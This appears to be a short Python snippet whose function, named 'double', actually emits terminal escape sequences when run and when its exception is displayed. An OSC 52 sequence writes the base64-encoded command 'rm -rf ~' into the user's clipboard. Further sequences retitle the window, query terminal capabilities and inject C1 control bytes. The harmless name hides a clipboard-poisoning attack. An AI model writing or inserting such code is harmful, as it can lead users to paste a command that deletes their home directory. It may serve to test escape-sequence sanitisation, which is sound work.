def double(x):
    print("\x1b]52;c;cm0gLXJmIH4K\x07\x1b]0;title\x07\x1bP+q544e\x1b\\")
    raise ValueError("\x1b]52;c;cm0gLXJmIH4K\x1b\\\x9b31m\x90q\x9c")
